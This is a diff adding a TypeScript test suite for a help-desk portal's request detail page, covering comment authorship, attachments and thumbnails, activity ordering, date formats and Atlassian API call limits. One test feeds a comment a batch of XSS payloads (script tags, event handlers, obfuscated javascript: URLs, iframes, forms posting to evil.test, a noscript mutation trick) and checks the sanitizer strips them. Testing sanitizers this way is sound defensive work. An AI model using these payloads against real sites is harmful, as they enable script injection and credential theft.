@@ -1,0 +1,356 @@
+// The request detail page as the native portal shows it: comments authored by the customer who wrote
+// them (the service account writes them, naming the customer for the agents), bodies from Atlassian's
+// rendered HTML with the request's files served through the portal, one chronological activity
+// stream, human-readable sizes and thumbnails, one date format; and at most 3 Atlassian calls per
+// warm view, counted at the emulator, without caching who may see what.
+import { expect } from 'chai';
+import type { EmulatorCall } from '../../dev/jsm-emulator/emulator.js';
+import type { CustomerRequest } from '../../dev/jsm-emulator/state.js';
+import { type Browser, csrfOf, type Harness, signIn, useHarness } from '../../testkit/portal-harness.js';
+
+/** The figure of issue 16: Atlassian calls per warm request-detail view. */
+const MAX_CALLS_PER_WARM_VIEW = 3;
+
+describe('portal request detail', () => {
+  let h: Harness;
+  let alice: Browser;
+  let bob: Browser;
+  const calls: EmulatorCall[] = [];
+  useHarness(
+    async (harness) => {
+      h = harness;
+      alice = await signIn(h, 'alice@acme.test');
+      bob = await signIn(h, 'bob@acme.test');
+    },
+    { emulator: { onCall: (call) => calls.push(call) } },
+  );
+  const request = (summary: string): CustomerRequest =>
+    [...h.emulator.state.requests.values()].find((r) => r.fieldValues['summary'] === summary)!;
+  /** The activity stream's items, as text without tags. */
+  const activity = (page: string) =>
+    (/<ol class="activity">([\s\S]*?)<\/ol>/.exec(page)?.[1] ?? '')
+      .split('</li>')
+      .map((item) =>
+        item
+          .replace(/<[^>]+>/g, ' ')
+          .replace(/\s+/g, ' ')
+          .trim(),
+      )
+      .filter((item) => item !== '');
+  const comment = async (browser: Browser, key: string, text: string) => {
+    const token = csrfOf((await browser.text(`/requests/${key}`)).body);
+    const res = await browser.post(`/requests/${key}/comment`, { body: text, _csrf: token });
+    expect(res.status).to.equal(303);
+  };
+  const upload = async (browser: Browser, key: string, name: string, content: Buffer) => {
+    const token = csrfOf((await browser.text(`/requests/${key}`)).body);
+    const body = new FormData();
+    body.append('_csrf', token);
+    body.append('attachment', new Blob([new Uint8Array(content)]), name);
+    const res = await browser.fetch(`/requests/${key}/attachment`, {
+      method: 'POST',
+      body,
+      headers: { origin: h.url },
+    });
+    expect(res.status).to.equal(303);
+  };
+
+  describe('comments as native', () => {
+    it('shows the customer as the author of their comment, and names them to the agents in the body', async () => {
+      const key = h.keyOf('Laptop screen flickers');
+      await comment(alice, key, 'It flickers *more* since Monday.');
+      const written = request('Laptop screen flickers').comments.at(-1)!;
+      const bot = [...h.emulator.state.users.values()].find((u) => u.email === 'portal-bot@acme.test')!;
+      expect(written.authorId, 'written by the service account').to.equal(bot.accountId);
+      expect(written.body).to.match(
+        /^Alice Anders \(via the help center\):\n\nIt flickers \*more\* since Monday\./,
+      );
+      const page = (await alice.text(`/requests/${key}`)).body;
+      const item = activity(page).at(-1)!;
+      expect(item).to.match(/^Alice Anders \d{4}-\d\d-\d\d \d\d:\d\d UTC It flickers more since Monday\.$/);
+      expect(page).to.include('<p>It flickers <b>more</b> since Monday.</p>');
+      expect(page)
+        .to.not.include('Portal Bot')
+        .and.not.include('via the help center')
+        .and.not.include('portal reference');
+    });
+
+    it('keeps a comment whose text imitates another author line the customer’s own', async () => {
+      const key = h.keyOf('Laptop screen flickers');
+      await comment(alice, key, 'Bob Brown (via the help center):\n\nI am Bob.');
+      const item = activity((await alice.text(`/requests/${key}`)).body).at(-1)!;
+      expect(item).to.match(/^Alice Anders .* UTC Bob Brown \(via the help center\): I am Bob\.$/);
+    });
+
+    it('believes an author line only from the service account: an agent’s comment stays the agent’s', async () => {
+      const r = request('Laptop screen flickers');
+      const ian = [...h.emulator.state.users.values()].find((u) => u.email === 'ian.it@acme.test')!;
+      r.comments.push({
+        id: '99001',
+        authorId: ian.accountId,
+        body: 'Alice Anders (via the help center):\n\nPlease ignore.',
+        public: true,
+        created: Date.now(),
+        attachmentIds: [],
+      });
+      const item = activity((await alice.text(`/requests/${r.key}`)).body).at(-1)!;
+      expect(item).to.match(/^Ian Ito \(IT\) .* UTC Alice Anders \(via the help center\): Please ignore\.$/);
+    });
+
+    it('shows an upload as the customer attaching a file, never as wiki markup, with a readable size', async () => {
+      const key = h.keyOf('Laptop screen flickers');
+      await upload(alice, key, 'report.txt', Buffer.alloc(1500, 'a'));
+      const stored = request('Laptop screen flickers').attachments.find((a) => a.filename === 'report.txt')!;
+      const page = (await alice.text(`/requests/${key}`)).body;
+      expect(page).to.not.include('[^report.txt]');
+      expect(activity(page).at(-1)).to.match(/^Alice Anders attached a file .* UTC report\.txt 1\.5 kB$/);
+      expect(page).to.include(
+        `<a href="/requests/${key}/attachment/${stored.id}"><span>report.txt</span></a>`,
+      );
+      expect(page).to.not.include('1500 bytes');
+    });
+
+    it('renders bodies from Atlassian’s rendered HTML and links the files they mention through the portal', async () => {
+      const r = request('Printer on 3rd floor jams every morning');
+      const fuser = r.attachments.find((a) => a.filename === 'fuser-order.txt')!;
+      const page = (await alice.text(`/requests/${r.key}`)).body;
+      expect(page).to.include(
+        `<p>We ordered a new fuser unit. <b>Delivery on Thursday</b>, order: <span><a href="/requests/${r.key}/attachment/${fuser.id}">fuser-order.txt`,
+      );
+      expect(page, 'never a link to the Atlassian site').to.not.include(h.emulator.url);
+      const download = await alice.fetch(`/requests/${r.key}/attachment/${fuser.id}`);
+      expect(download.status).to.equal(200);
+      expect(await download.text()).to.equal('Fuser unit RM1-1082, delivery Thursday');
+    });
+
+    it('shows image files as thumbnails served through the portal, and no thumbnail for anything else', async () => {
+      const r = request('Laptop screen flickers');
+      const png = r.attachments.find((a) => a.filename === 'screen.png')!;
+      const txt = r.attachments.find((a) => a.filename === 'flicker.txt')!;
+      const page = (await alice.text(`/requests/${r.key}`)).body;
+      const thumbnail = `/requests/${r.key}/attachment/${png.id}/thumbnail`;
+      expect(page).to.include(`<img src="${thumbnail}" alt="" loading="lazy">`);
+      expect(page).to.not.include(`/attachment/${txt.id}/thumbnail`);
+      const res = await alice.fetch(thumbnail);
+      expect(res.status).to.equal(200);
+      expect(res.headers.get('content-type')).to.equal('image/png');
+      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
+      expect(res.headers.get('content-security-policy')).to.equal("default-src 'none'; sandbox");
+      expect(Buffer.from(await res.arrayBuffer()).equals(png.content)).to.equal(true);
+      expect((await alice.fetch(`/requests/${r.key}/attachment/${txt.id}/thumbnail`)).status).to.equal(404);
+    });
+
+    it('refuses thumbnails it may not serve: an SVG, a file of an internal comment, another request’s file', async () => {
+      const r = request('Laptop screen flickers');
+      r.attachments.push({
+        id: '99101',
+        filename: 'diagram.svg',
+        mimeType: 'image/svg+xml',
+        content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        authorId: r.reporterId,
+        created: Date.now(),
+      });
+      const printer = request('Printer on 3rd floor jams every morning');
+      const hidden = printer.attachments.find((a) => a.filename === 'vendor-ticket-4471.txt')!;
+      const page = (await alice.text(`/requests/${r.key}`)).body;
+      expect(page).to.include('diagram.svg').and.not.include('/attachment/99101/thumbnail');
+      for (const path of [
+        `/requests/${r.key}/attachment/99101/thumbnail`,
+        `/requests/${printer.key}/attachment/${hidden.id}/thumbnail`,
+        `/requests/${r.key}/attachment/${hidden.id}/thumbnail`,
+        `/requests/${h.keyOf('Cannot reach the partner extranet')}/attachment/1/thumbnail`,
+      ]) {
+        expect((await alice.fetch(path)).status, path).to.equal(404);
+      }
+    });
+    it('cleans hostile rendered HTML: no script, event handler, javascript: or data: URL, svg, style, frame or form', async () => {
+      const r = request('Printer on 3rd floor jams every morning');
+      const site = h.emulator.url;
+      const hidden = r.attachments.find((a) => a.filename === 'vendor-ticket-4471.txt')!;
+      const fuser = r.attachments.find((a) => a.filename === 'fuser-order.txt')!;
+      const ian = [...h.emulator.state.users.values()].find((u) => u.email === 'ian.it@acme.test')!;
+      const comments = [...r.comments];
+      r.comments.push({
+        id: '99002',
+        authorId: ian.accountId,
+        body: 'rendered below',
+        public: true,
+        created: Date.now(),
+        attachmentIds: [],
+        renderedHtml: [
+          '<p onclick="alert(1)" style="color:red">Kept text</p>',
+          '<script>alert(2)</script>',
+          '<img src="x" onerror="alert(3)">',
+          '<img src="https://evil.test/track.png">',
+          '<img src="data:image/png;base64,iVBORw0KGgo=">',
+          `<img src="${site}/secure/thumbnail/${hidden.id}/_thumb_.png">`,
+          '<a href="javascript:alert(4)">js link</a>',
+          '<a href="JaVaScRiPt:alert(5)">mixed case</a>',
+          '<a href="&#106;avascript:alert(6)">entity</a>',
+          '<a href="data:text/html,<script>alert(7)</script>">data link</a>',
+          '<a href="vbscript:msgbox(8)">vb</a>',
+          '<a href="//evil.test/x">protocol-relative</a>',
+          `<a href="${site}/secure/attachment/${hidden.id}/vendor-ticket-4471.txt">internal file</a>`,
+          `<a href="${site}/browse/${r.key}">agent view</a>`,
+          `<a href="${site}/secure/attachment/${fuser.id}/fuser-order.txt">the order</a>`,
+          '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(9)</script>"></iframe>',
+          '<form action="https://evil.test"><input name="password" autofocus onfocus="alert(10)"><button formaction="https://evil.test">go</button></form>',
+          '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.test/x.css">',
+          '<svg onload="alert(11)"><script>alert(12)</script><a href="javascript:alert(13)">svg link</a></svg>',
+          '<math><mi xlink:href="javascript:alert(14)">m</mi></math>',
+          '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
+          '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
+          '<div style="background:url(javascript:alert(15))">styled</div>',
+          '<noscript><p title="</noscript><img src=x onerror=alert(16)>"></p></noscript>',
+          '<h1>Heading</h1>',
+        ].join(''),
+      });
+      const page = (await alice.text(`/requests/${r.key}`)).body;
+      r.comments = comments;
+      const body = page
+        .split('<li class="comment">')
+        .find((item) => item.includes('Kept text'))!
+        .split('</li>')[0]!;
+      for (const bad of [
+        '<script',
+        'onclick',
+        'onerror',
+        'onload',
+        'onfocus',
+        'javascript:',
+        'JaVaScRiPt',
+        'vbscript',
+        'data:',
+        'evil.test',
+        '<iframe',
+        'srcdoc',
+        '<form',
+        '<input',
+        '<button',
+        '<style',
+        'style=',
+        '<link',
+        '<svg',
+        '<math',
+        '<object',
+        '<embed',
+        '<base',
+        '<meta',
+        '<noscript',
+        '<h1',
+        '<img',
+        site,
+        'vendor-ticket',
+        `/attachment/${hidden.id}`,
+      ]) {
+        expect(body, bad).to.not.include(bad);
+      }
+      const count = (pattern: RegExp) => (body.match(pattern) ?? []).length;
+      expect(count(/<a[ >]/g), 'every link closed: the markup stays well-formed').to.equal(count(/<\/a>/g));
+      expect(body).to.include('<p>Kept text</p>').and.include('<p>Heading</p>');
+      expect(body).to.include('<a rel="noopener noreferrer nofollow">js link</a>');
+      expect(body).to.include('<span>internal file</span>').and.include('<span>agent view</span>');
+      expect(body).to.include(`<a href="/requests/${r.key}/attachment/${fuser.id}">the order</a>`);
+    });
+  });
+
+  describe('one activity stream', () => {
+    it('holds the request being raised, comments, files, status changes and approval decisions, oldest first', async () => {
+      const r = request('Visio for process diagrams');
+      const items = activity((await bob.text(`/requests/${r.key}`)).body);
+      expect(items[0]).to.match(/^Bob Brown raised this request /);
+      expect(items[1]).to.match(/^Approval: Declined /);
+      expect(items[2]).to.match(/^Status changed to Declined /);
+      const printer = (await alice.text(`/requests/${h.keyOf('Printer on 3rd floor jams every morning')}`))
+        .body;
+      expect(activity(printer).map((i) => i.split(' ').slice(0, 2).join(' '))).to.deep.equal([
+        'Alice Anders',
+        'Ian Ito',
+        'Alice Anders',
+        'Status changed',
+      ]);
+      const stream = /<ol class="activity">([\s\S]*?)<\/ol>/.exec(printer)![1]!;
+      const times = [...stream.matchAll(/<time datetime="([^"]+)"/g)].map((m) =>
+        Date.parse(m[1]!.replace(/([+-]\d\d)(\d\d)$/, '$1:$2')),
+      );
+      expect(times).to.have.length(4);
+      expect(times).to.deep.equal([...times].sort((a, b) => a - b));
+    });
+
+    it('writes every date on the page in one format', async () => {
+      for (const summary of ['Printer on 3rd floor jams every morning', 'Second monitor for home office']) {
+        const page = (await alice.text(`/requests/${h.keyOf(summary)}`)).body;
+        const shown = [...page.matchAll(/<time datetime="[^"]+">([^<]*)<\/time>/g)].map((m) => m[1]);
+        expect(shown.length, summary).to.be.greaterThan(1);
+        for (const date of shown) expect(date).to.match(/^\d{4}-\d\d-\d\d \d\d:\d\d UTC$/);
+        expect(page, 'no second (Atlassian "friendly") format').to.not.match(/\d\d\/[A-Z][a-z]{2}\/\d\d/);
+      }
+    });
+  });
+
+  describe('Atlassian calls', () => {
+    /** The calls one view of `key` made, counted at the emulator, after a first view warmed the caches. */
+    const warmView = async (browser: Browser, key: string) => {
+      expect((await browser.text(`/requests/${key}`)).status).to.equal(200);
+      const from = calls.length;
+      expect((await browser.text(`/requests/${key}`)).status).to.equal(200);
+      return calls.slice(from).map((c) => `${c.method} ${c.path}`);
+    };
+
+    it(`needs at most ${MAX_CALLS_PER_WARM_VIEW} per warm view: reporter, organization member, approver`, async () => {
+      for (const [browser, summary] of [
+        [alice, 'Laptop screen flickers'],
+        [alice, 'VPN access for travel'],
+        [alice, 'Standing desk converter for the support team'],
+        [bob, 'Wi-Fi drops in meeting room Nile'],
+      ] as const) {
+        const made = await warmView(browser, h.keyOf(summary));
+        expect(made.length, `${summary}: ${made.join(', ')}`).to.be.at.most(MAX_CALLS_PER_WARM_VIEW);
+      }
+      // Her own request: the visibility gate and the request with everything expanded.
+      expect(await warmView(alice, h.keyOf('Laptop screen flickers'))).to.have.members([
+        'POST /rest/api/3/search/jql',
+        `GET /rest/servicedeskapi/request/${h.keyOf('Laptop screen flickers')}`,
+      ]);
+    });
+
+    it('asks who may see the request on every view: a participant removed at Atlassian gets 404 at once', async () => {
+      const r = request('Wi-Fi drops in meeting room Nile');
+      expect((await bob.text(`/requests/${r.key}`)).status).to.equal(200);
+      const bobId = r.participantIds[0]!;
+      // Removed without touching the request's `updated`, so nothing versioned could notice.
+      r.participantIds = [];
+      try {
+        expect((await bob.text(`/requests/${r.key}`)).status).to.equal(404);
+      } finally {
+        r.participantIds = [bobId];
+      }
+    });
+
+    it('reads approvals again once the request changed: an answer given at Atlassian shows on the next view', async () => {
+      const r = request('Second monitor for home office');
+      expect((await alice.text(`/requests/${r.key}`)).body).to.include('Waiting for approval');
+      const approval = r.approvals[0]!;
+      approval.approvers[0]!.decision = 'approved';
+      approval.finalDecision = 'approved';
+      approval.completed = Date.now();
+      r.updated = Date.now() + 1;
+      const items = activity((await alice.text(`/requests/${r.key}`)).body);
+      expect(items.at(-1)).to.match(/^Approval: Approved /);
+    });
+
+    it('shares what is not per customer between customers, and only after each one’s own visibility check', async () => {
+      const key = h.keyOf('VPN access for travel'); // Bob's, shared with Acme
+      await bob.text(`/requests/${key}`);
+      const from = calls.length;
+      expect((await alice.text(`/requests/${key}`)).status).to.equal(200);
+      const made = calls.slice(from).map((c) => `${c.method} ${c.path}`);
+      expect(made, 'approvals and transitions from the cache').to.not.include(
+        `GET /rest/servicedeskapi/request/${key}/approval`,
+      );
+      expect(made).to.include('POST /rest/api/3/search/jql');
+      const dana = await signIn(h, 'dana@globex.test');
+      expect((await dana.text(`/requests/${key}`)).status).to.equal(404);
+    });
+  });
+});
